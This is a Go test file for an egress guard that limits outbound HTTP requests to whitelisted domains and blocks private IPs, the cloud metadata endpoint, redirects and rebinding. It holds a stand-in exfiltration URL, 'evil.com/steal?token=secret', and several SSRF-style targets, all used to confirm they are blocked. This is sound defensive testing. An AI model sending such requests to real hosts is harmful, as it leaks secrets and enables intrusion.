package egress

import (
	"context"
	"errors"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func defaultTestWhitelist() []WhitelistEntry {
	return []WhitelistEntry{
		{Domain: "ai.gateway.lovable.dev", RequiresTLS: true, AllowedMethods: []string{"POST"}},
		{Domain: "www.googleapis.com", RequiresTLS: true, AllowedMethods: []string{"GET", "POST"}},
		{Domain: "api.linkedin.com", RequiresTLS: true, AllowedMethods: []string{"get", "post"}},
		{Domain: "plain.example.com", RequiresTLS: false},
	}
}

// recordingReporter captures blocked-request reports.
type recordingReporter struct {
	mu    sync.Mutex
	hosts []string
	why   []string
}

func (r *recordingReporter) LogBlockedRequest(_ context.Context, host, reason string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.hosts = append(r.hosts, host)
	r.why = append(r.why, reason)
}

type roundTripFunc func(*http.Request) (*http.Response, error)

func (f roundTripFunc) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }

// ---------------------------------------------------------------------------
// ValidateExternalRequest
// ---------------------------------------------------------------------------

func TestValidateExternalRequest(t *testing.T) {
	g := NewGuard(defaultTestWhitelist())

	tests := []struct {
		name    string
		url     string
		method  string
		allowed bool
		reason  string
	}{
		{"whitelisted POST", "https://ai.gateway.lovable.dev/v1/chat", "POST", true, ""},
		{"whitelisted GET", "https://www.googleapis.com/calendar/v3", "GET", true, ""},
		{"empty method defaults to GET", "https://www.googleapis.com/gmail", "", true, ""},
		{"method case-insensitive", "https://ai.gateway.lovable.dev/v1", "post", true, ""},
		{"entry methods normalised", "https://api.linkedin.com/v2/me", "GET", true, ""},
		{"subdomain of whitelisted", "https://eu.api.linkedin.com/v2", "GET", true, ""},
		{"trailing dot host", "https://www.googleapis.com./x", "GET", true, ""},
		{"no method restriction", "http://plain.example.com/x", "DELETE", true, ""},
		{"malformed url", "::not a url", "GET", false, ReasonInvalidURL},
		{"missing host", "https:///path", "GET", false, ReasonInvalidURL},
		{"unsupported scheme", "ftp://www.googleapis.com/x", "GET", false, ReasonInvalidURL},
		{"loopback ipv4", "https://127.0.0.1/admin", "GET", false, ReasonPrivateIP},
		{"private class A", "https://10.0.0.5/x", "GET", false, ReasonPrivateIP},
		{"private class B", "https://172.20.1.1/x", "GET", false, ReasonPrivateIP},
		{"class B boundary outside", "https://172.32.0.1/x", "GET", false, ReasonNotWhitelisted},
		{"private class C", "https://192.168.1.1/x", "GET", false, ReasonPrivateIP},
		{"link-local metadata", "http://169.254.169.254/latest/meta-data", "GET", false, ReasonPrivateIP},
		{"zero network", "http://0.0.0.0/", "GET", false, ReasonPrivateIP},
		{"localhost name", "http://localhost:8080/", "GET", false, ReasonPrivateIP},
		{"ipv6 loopback", "http://[::1]/", "GET", false, ReasonPrivateIP},
		{"ipv6 link-local", "http://[fe80::1]/", "GET", false, ReasonPrivateIP},
		{"ipv6 unique local", "http://[fd12:3456::1]/", "GET", false, ReasonPrivateIP},
		{"ipv4-mapped loopback", "http://[::ffff:127.0.0.1]/", "GET", false, ReasonPrivateIP},
		{"unknown domain", "https://evil.com/api", "GET", false, ReasonNotWhitelisted},
		{"suffix without dot", "https://evilgoogleapis.com/x", "GET", false, ReasonNotWhitelisted},
		{"whitelisted as subpath", "https://evil.com/www.googleapis.com", "GET", false, ReasonNotWhitelisted},
		{"http where tls required", "http://www.googleapis.com/x", "GET", false, ReasonTLSRequired},
		{"method not allowed", "https://ai.gateway.lovable.dev/v1", "GET", false, "Method GET not allowed for this API"},
		{"delete not allowed", "https://www.googleapis.com/x", "DELETE", false, "Method DELETE not allowed for this API"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			d := g.ValidateExternalRequest(tt.url, tt.method)
			assert.Equal(t, tt.allowed, d.Allowed)
			assert.Equal(t, tt.reason, d.Reason)
		})
	}
}

func TestValidateExternalRequest_PrivateCheckPrecedesWhitelist(t *testing.T) {
	// Even a whitelisted literal IP is refused as private.
	g := NewGuard([]WhitelistEntry{{Domain: "10.1.2.3"}})
	d := g.ValidateExternalRequest("http://10.1.2.3/", "GET")
	assert.False(t, d.Allowed)
	assert.Equal(t, ReasonPrivateIP, d.Reason)
}

func TestNewGuard_CopiesWhitelist(t *testing.T) {
	wl := []WhitelistEntry{{Domain: "api.example.com", RequiresTLS: true, AllowedMethods: []string{"GET"}}}
	g := NewGuard(wl)
	wl[0].Domain = "evil.com"
	wl[0].AllowedMethods[0] = "DELETE"

	assert.True(t, g.ValidateExternalRequest("https://api.example.com/", "GET").Allowed)
	assert.False(t, g.ValidateExternalRequest("https://evil.com/", "GET").Allowed)
}

// ---------------------------------------------------------------------------
// IP helpers
// ---------------------------------------------------------------------------

func TestIsPrivateIP(t *testing.T) {
	private := []string{"127.0.0.1", "127.255.255.254", "10.255.0.1", "172.16.0.1", "172.31.255.255",
		"192.168.0.1", "169.254.1.1", "0.0.0.0", "::1", "::", "fe80::abcd", "fc00::1", "fdff::1", "::ffff:10.0.0.1"}
	public := []string{"8.8.8.8", "172.15.255.255", "172.32.0.0", "192.169.0.1", "2001:4860:4860::8888", "1.1.1.1"}

	for _, s := range private {
		assert.True(t, isPrivateIP(net.ParseIP(s)), "%s should be private", s)
	}
	for _, s := range public {
		assert.False(t, isPrivateIP(net.ParseIP(s)), "%s should be public", s)
	}
}

func TestControlDial(t *testing.T) {
	assert.ErrorIs(t, controlDial("tcp4", "127.0.0.1:443", nil), errDialPrivate)
	assert.ErrorIs(t, controlDial("tcp4", "10.0.0.8:443", nil), errDialPrivate)
	assert.ErrorIs(t, controlDial("tcp6", "[::1]:443", nil), errDialPrivate)
	assert.ErrorIs(t, controlDial("tcp4", "not-an-ip:443", nil), errDialPrivate)
	assert.NoError(t, controlDial("tcp4", "142.250.80.10:443", nil))
}

// ---------------------------------------------------------------------------
// SecureFetch
// ---------------------------------------------------------------------------

func newRequest(t *testing.T, method, url string) *http.Request {
	t.Helper()
	req, err := http.NewRequest(method, url, nil)
	require.NoError(t, err)
	return req
}

func TestSecureFetch_BlockedIsReportedWithHostOnly(t *testing.T) {
	rep := &recordingReporter{}
	called := false
	g := NewGuard(defaultTestWhitelist(), WithReporter(rep), WithTransport(roundTripFunc(func(*http.Request) (*http.Response, error) {
		called = true
		return nil, errors.New("unreachable")
	})))

	_, err := g.SecureFetch(context.Background(), newRequest(t, "GET", "https://evil.com/steal?token=secret"), 0)

	require.Error(t, err)
	assert.ErrorIs(t, err, ErrBlocked)
	assert.False(t, called, "transport must not be reached for a blocked request")
	assert.Equal(t, []string{"evil.com"}, rep.hosts)
	assert.Equal(t, []string{ReasonNotWhitelisted}, rep.why)
	assert.NotContains(t, err.Error(), "secret")
}

func TestSecureFetch_Success(t *testing.T) {
	g := NewGuard(defaultTestWhitelist(), WithTransport(roundTripFunc(func(r *http.Request) (*http.Response, error) {
		if _, ok := r.Context().Deadline(); !ok {
			t.Error("request context has no deadline")
		}
		return &http.Response{
			StatusCode: http.StatusOK,
			Body:       io.NopCloser(strings.NewReader(`{"ok":true}`)),
			Header:     make(http.Header),
			Request:    r,
		}, nil
	})))

	resp, err := g.SecureFetch(context.Background(), newRequest(t, "POST", "https://ai.gateway.lovable.dev/v1/chat"), time.Second)
	require.NoError(t, err)
	defer resp.Body.Close()

	body, err := io.ReadAll(resp.Body)
	require.NoError(t, err)
	assert.Equal(t, `{"ok":true}`, string(body))
}

func TestSecureFetch_Timeout(t *testing.T) {
	g := NewGuard(defaultTestWhitelist(), WithTransport(roundTripFunc(func(r *http.Request) (*http.Response, error) {
		<-r.Context().Done()
		return nil, r.Context().Err()
	})))

	start := time.Now()
	_, err := g.SecureFetch(context.Background(), newRequest(t, "GET", "https://www.googleapis.com/slow"), 50*time.Millisecond)

	require.Error(t, err)
	assert.ErrorIs(t, err, ErrUpstreamTimeout)
	assert.Equal(t, "Request timeout after 50ms", err.Error())
	assert.Less(t, time.Since(start), 2*time.Second)
}

func TestSecureFetch_DefaultTimeoutFromOption(t *testing.T) {
	g := NewGuard(defaultTestWhitelist(), WithTimeout(30*time.Millisecond), WithTransport(roundTripFunc(func(r *http.Request) (*http.Response, error) {
		<-r.Context().Done()
		return nil, r.Context().Err()
	})))

	_, err := g.SecureFetch(context.Background(), newRequest(t, "GET", "https://www.googleapis.com/slow"), 0)
	var te *TimeoutError
	require.ErrorAs(t, err, &te)
	assert.Equal(t, 30*time.Millisecond, te.Timeout)
}

func TestSecureFetch_ParentCancelIsNotTimeout(t *testing.T) {
	g := NewGuard(defaultTestWhitelist(), WithTransport(roundTripFunc(func(r *http.Request) (*http.Response, error) {
		<-r.Context().Done()
		return nil, r.Context().Err()
	})))

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := g.SecureFetch(ctx, newRequest(t, "GET", "https://www.googleapis.com/x"), time.Second)

	require.Error(t, err)
	assert.ErrorIs(t, err, ErrUpstream)
	assert.NotErrorIs(t, err, ErrUpstreamTimeout)
}

func TestSecureFetch_TransportError(t *testing.T) {
	g := NewGuard(defaultTestWhitelist(), WithTransport(roundTripFunc(func(*http.Request) (*http.Response, error) {
		return nil, errors.New("connection reset")
	})))

	_, err := g.SecureFetch(context.Background(), newRequest(t, "GET", "https://www.googleapis.com/x"), time.Second)
	assert.ErrorIs(t, err, ErrUpstream)
}

func TestSecureFetch_DialToPrivateAddressBlocked(t *testing.T) {
	rep := &recordingReporter{}
	g := NewGuard(defaultTestWhitelist(), WithReporter(rep), WithTransport(roundTripFunc(func(*http.Request) (*http.Response, error) {
		// Simulates a rebinding answer caught by controlDial.
		return nil, &net.OpError{Op: "dial", Net: "tcp", Err: errDialPrivate}
	})))

	_, err := g.SecureFetch(context.Background(), newRequest(t, "GET", "https://www.googleapis.com/x"), time.Second)

	assert.ErrorIs(t, err, ErrBlocked)
	assert.Equal(t, []string{"www.googleapis.com"}, rep.hosts)
	assert.Equal(t, []string{ReasonPrivateIP}, rep.why)
}

func TestSecureFetch_RedirectToPrivateBlocked(t *testing.T) {
	rep := &recordingReporter{}
	g := NewGuard(defaultTestWhitelist(), WithReporter(rep), WithTransport(roundTripFunc(func(r *http.Request) (*http.Response, error) {
		h := make(http.Header)
		h.Set("Location", "http://169.254.169.254/latest/meta-data")
		return &http.Response{
			StatusCode: http.StatusFound,
			Header:     h,
			Body:       io.NopCloser(strings.NewReader("")),
			Request:    r,
		}, nil
	})))

	_, err := g.SecureFetch(context.Background(), newRequest(t, "GET", "https://www.googleapis.com/x"), time.Second)

	assert.ErrorIs(t, err, ErrBlocked)
	assert.Equal(t, []string{"169.254.169.254"}, rep.hosts)
}
